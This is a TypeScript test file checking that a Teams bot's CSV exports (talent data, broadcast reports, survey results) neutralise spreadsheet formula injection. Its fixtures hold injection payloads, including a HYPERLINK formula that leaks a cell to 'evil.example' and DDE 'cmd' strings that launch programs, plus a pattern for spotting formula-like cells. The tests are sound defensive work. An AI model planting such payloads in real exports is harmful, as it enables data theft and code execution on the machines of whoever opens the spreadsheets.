import { jstDate } from '../../bot/src/kernel/domain/jst.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningApp } from '../../bot/src/app.js';
import { deliveryReportCsv, newDelivery } from '../../bot/src/delivery/domain/delivery.js';
import { SURVEY_INDICATORS } from '../../bot/src/kernel/domain/catalog/survey-indicators.js';
import type { Employee } from '../../bot/src/kernel/domain/employee.js';
import { fiscalYearBounds, fiscalYearOf, type SurveyRound } from '../../bot/src/features/survey/domain/survey-rounds.js';
import { tabApi } from '../support/tab-api.js';
import { TEST_TENANT_ID, startTestApp } from '../support/test-app.js';

/**
 * Formula injection (issue 14, finding 3): display names come from Teams and department names from admins, so any
 * of them may start with = + - @. Every CSV the product writes is downloaded here as Excel would get it, and each
 * such text must arrive defused (a leading ' inside the field) — never as a cell Excel would evaluate.
 */
const FORMULAS = {
  equals: '=HYPERLINK("https://evil.example/?leak="&A1,"請求書")',
  plus: '+cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C notepad\'!A0',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
} as const;
const EVIL_DEPARTMENT = { id: 'dept-evil', name: '=1+1+cmd|\' /C calc\'!A0' };

const id = (n: number) => `00000000-0000-4000-8000-5${String(n).padStart(11, '0')}`;
const person = (n: number, displayName: string, roles: Employee['roles'] = ['employee']): Employee => ({
  id: id(n),
  displayName,
  email: undefined,
  departmentId: EVIL_DEPARTMENT.id,
  jobLevel: 'general',
  roles,
  locale: 'ja-JP',
  tenantId: TEST_TENANT_ID,
  installedAt: undefined,
});
const ADMIN = person(0, '品川 管理', ['employee', 'admin']);
const VICTIMS = Object.values(FORMULAS).map((name, index) => person(index + 1, name));
const OTHERS = [5, 6, 7].map((n) => person(n, `職員 ${n}`));

/** RFC 4180 fields of a CSV text (BOM dropped), enough to look at each cell as Excel would. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  const body = csv.replace(/^\uFEFF/, '');
  for (let match = pattern.exec(body); match && match[0] !== ''; match = pattern.exec(body)) {
    const raw = match[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return cells;
}

/** Every attacker text is in the export, defused with a leading quote mark; no cell starts like a formula. */
function expectDefused(csv: string, texts: readonly string[]) {
  const cells = cellsOf(csv);
  for (const value of texts) expect(cells).toContain(`'${value}`);
  const live = cells.filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)));
  expect(live).toEqual([]);
}

let app: RunningApp;
let api: ReturnType<typeof tabApi>;

beforeAll(async () => {
  app = await startTestApp();
  api = tabApi(app);
  await app.repositories.departments.save(EVIL_DEPARTMENT);
  await Promise.all([ADMIN, ...VICTIMS, ...OTHERS].map((employee) => app.repositories.employees.save(employee)));
});
afterAll(async () => {
  await app?.stop();
});

describe('every CSV export defuses formulas in names (issue 14)', () => {
  it('when the 人材データ export holds display and department names starting with = + - @, then each is defused', async () => {
    const exported = await api('GET', '/api/tab/admin/export/talent-data.csv', ADMIN.id);
    expect(exported.status).toBe(200);
    expectDefused(exported.text, [...Object.values(FORMULAS), EVIL_DEPARTMENT.name]);
  });

  it('when the broadcast delivery report lists recipients named = + - @, then each name and department is defused', async () => {
    const broadcastId = 'csv-formula-broadcast';
    await app.delivery.send({
      id: broadcastId,
      kind: 'news',
      createdBy: ADMIN.id,
      title: 'お知らせ',
      audience: 'test',
      variants: { ja: { type: 'message', text: 'お知らせ' } },
      recipients: VICTIMS.map((victim) => ({ employeeId: victim.id })),
    });
    const exported = await api('GET', `/api/tab/admin/broadcasts/${broadcastId}/report.csv`, ADMIN.id);
    expect(exported.status).toBe(200);
    expectDefused(exported.text, [...Object.values(FORMULAS), EVIL_DEPARTMENT.name]);
  });

  it("when the delivery engine's own report carries a reason or id starting like a formula, then it is defused", () => {
    const now = new Date();
    const row = { ...newDelivery('b', { employeeId: '=cmd|\' /C calc\'!A0' }, 'ja', now), state: 'failed' as const, reason: '@http-400 "=1+1"' };
    expectDefused(deliveryReportCsv([row]), [row.employeeId, row.reason]);
  });

  it('when the survey results break down by a department named like a formula, then the name is defused', async () => {
    const now = new Date();
    const fiscalYear = fiscalYearOf(now);
    const yearEnd = fiscalYearBounds(fiscalYear).end.getTime();
    const created = await api('POST', '/api/tab/admin/surveys', ADMIN.id, {
      kind: 'annual',
      fiscalYear,
      opensAt: new Date(now.getTime() - 60_000).toISOString(),
      closesAt: new Date(Math.min(now.getTime() + 7 * 86_400_000, yearEnd - 60_000)).toISOString(),
      audience: { kind: 'everyone' },
    });
    expect(created.status).toBe(200);
    const round = created.body.round as SurveyRound;
    expect((await api('POST', `/api/tab/admin/surveys/${round.id}/start`, ADMIN.id)).status).toBe(200);
    for (const respondent of [...VICTIMS, ...OTHERS]) {
      await app.repositories.surveyResponses.submit({
        roundId: round.id,
        employeeId: respondent.id,
        answers: Object.fromEntries(SURVEY_INDICATORS.map((indicator) => [indicator.id, 4])),
        departmentId: EVIL_DEPARTMENT.id,
        jobLevel: 'general',
        submittedOn: jstDate(now),
      });
    }
    // Results exist only once the answers are written (in their batch) and the round is closed.
    expect((await api('POST', `/api/tab/admin/surveys/${round.id}/close`, ADMIN.id)).status).toBe(200);
    await app.surveys.writeAnswerBatches();
    const exported = await api('GET', `/api/tab/admin/surveys/${round.id}/results.csv`, ADMIN.id);
    expect(exported.status).toBe(200);
    expectDefused(exported.text, [EVIL_DEPARTMENT.name]);
  });
});
